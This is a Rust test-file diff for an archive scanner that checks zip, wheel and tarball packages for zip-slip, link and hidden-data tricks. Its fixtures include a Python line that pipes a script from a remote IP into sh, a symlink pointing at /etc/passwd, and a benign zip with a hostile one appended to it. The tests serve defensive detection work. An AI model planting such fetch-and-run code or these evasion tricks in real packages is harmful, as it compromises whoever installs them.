@@ -197,7 +197,9 @@ fn zip_slip_absolute_names_links_and_devices_are_reported_never_followed() {
         &Limits::default(),
     );
 
-    assert_eq!(paths(&listing), ["package.json"]);
+    // A hard link to a file of the package is that file under its own name (issue 22, item 2).
+    assert_eq!(paths(&listing), ["hard", "package.json"]);
+    assert_eq!(text_of(&listing, "hard"), "{}");
     let mut found = kinds(&listing);
     found.sort();
     use IssueKind::*;
@@ -226,7 +228,6 @@ fn zip_slip_absolute_names_links_and_devices_are_reported_never_followed() {
     assert!(link.message.contains("/etc/passwd"), "{}", link.message);
     assert!(skip_reason(&listing, "passwd").contains("outside the package; not followed"));
     assert!(skip_reason(&listing, "inside").contains("inside the package; not followed"));
-    assert!(skip_reason(&listing, "hard").contains("hard link"));
     assert!(skip_reason(&listing, "dev").contains("device"));
     assert!(skip_reason(&listing, "fifo").contains("FIFO"));
     assert!(skip_reason(&listing, "/tmp/abs-evil").contains("absolute"));
@@ -528,7 +529,7 @@ fn names_that_are_not_utf8_are_kept_with_a_diagnostic() {
         gzip(&builder.into_inner().unwrap()),
         &Limits::default(),
     );
-    assert_eq!(paths(&listing), ["caf\u{fffd}.js", "ok.js"]);
+    assert_eq!(paths(&listing), ["caf%E9.js", "ok.js"]);
     assert_eq!(listing.diagnostics.len(), 1);
     assert!(listing.diagnostics[0].message.contains("not valid UTF-8"));
 }
@@ -572,4 +573,92 @@ fn a_password_protected_entry_is_reported() {
     assert_eq!(kinds(&listing), [IssueKind::Encrypted]);
     assert_eq!(paths(&listing), ["README.md"]);
     assert!(skip_reason(&listing, "payload.sh").contains("password"));
+}
+
+/// The text of `path` in the listing, read the way the scanner reads it.
+fn text_of(listing: &ArchiveListing, path: &str) -> String {
+    let entry = listing
+        .walked
+        .files
+        .iter()
+        .find(|f| f.rel_path == path)
+        .unwrap_or_else(|| panic!("{path} not listed: {:?}", paths(listing)));
+    String::from_utf8(entry.read(1 << 20).unwrap()).unwrap()
+}
+
+#[test]
+fn two_zips_end_to_end_are_read_as_pip_reads_them_and_flagged() {
+    let benign = zip_of(&[("pkg/__init__.py", b"VERSION = 1\n".as_slice())]);
+    let hostile = zip_of(&[(
+        "pkg/__init__.py",
+        b"import os\nos.system('curl -s http://198.51.100.4/p.sh | sh')\n".as_slice(),
+    )]);
+    let joined = [benign, hostile].concat();
+    let listing = read("pkg-1.0-py3-none-any.whl", joined, &Limits::default());
+    assert_eq!(kinds(&listing), [IssueKind::ZipReadingsDiffer]);
+    // (the lone top folder is taken off, as for any archive)
+    assert!(text_of(&listing, "__init__.py").contains("os.system"));
+}
+
+#[test]
+fn bytes_before_a_zip_are_skipped_as_pip_skips_them_and_flagged() {
+    let mut bytes = b"#!/usr/bin/env python3\n# a launcher stub\n".to_vec();
+    bytes.extend(zip_of(&[("pkg/mod.py", b"X = 1\n".as_slice())]));
+    let listing = read(
+        "pkg-1.0-py3-none-any.whl",
+        bytes.clone(),
+        &Limits::default(),
+    );
+    assert_eq!(kinds(&listing), [IssueKind::DataBeforeZip]);
+    assert_eq!(text_of(&listing, "mod.py"), "X = 1\n");
+    // From a file too, read at an offset.
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("stub.whl");
+    std::fs::write(&path, &bytes).unwrap();
+    let listing = skill_scan_archive::read_archive_file(&path, &Limits::default()).unwrap();
+    assert_eq!(kinds(&listing), [IssueKind::DataBeforeZip]);
+    assert_eq!(text_of(&listing, "mod.py"), "X = 1\n");
+}
+
+#[test]
+fn links_inside_a_tarball_are_read_as_the_file_they_name() {
+    let manifest = br#"{"name": "linked", "scripts": {"preinstall": "node test/setup.js"}}"#;
+    let mut tar = tar::Builder::new(Vec::new());
+    let mut header = tar::Header::new_gnu();
+    header.set_size(manifest.len() as u64);
+    header.set_mode(0o644);
+    tar.append_data(&mut header, "package/manifest.json", manifest.as_slice())
+        .unwrap();
+    for (kind, name, target) in [
+        (
+            tar::EntryType::Link,
+            "package/package.json",
+            "package/manifest.json",
+        ),
+        (tar::EntryType::Symlink, "package/index.js", "manifest.json"),
+        (
+            tar::EntryType::Symlink,
+            "package/outside.js",
+            "../../etc/passwd",
+        ),
+    ] {
+        let mut header = tar::Header::new_gnu();
+        header.set_entry_type(kind);
+        header.set_size(0);
+        header.set_mode(0o644);
+        tar.append_link(&mut header, name, target).unwrap();
+    }
+    let listing = read(
+        "linked.tgz",
+        gzip(&tar.into_inner().unwrap()),
+        &Limits::default(),
+    );
+    assert_eq!(
+        paths(&listing),
+        ["index.js", "manifest.json", "package.json"]
+    );
+    assert!(text_of(&listing, "package.json").contains("preinstall"));
+    assert!(text_of(&listing, "index.js").contains("preinstall"));
+    assert_eq!(kinds(&listing), [IssueKind::LinkOutside]);
+    assert!(skip_reason(&listing, "outside.js").contains("outside"));
 }
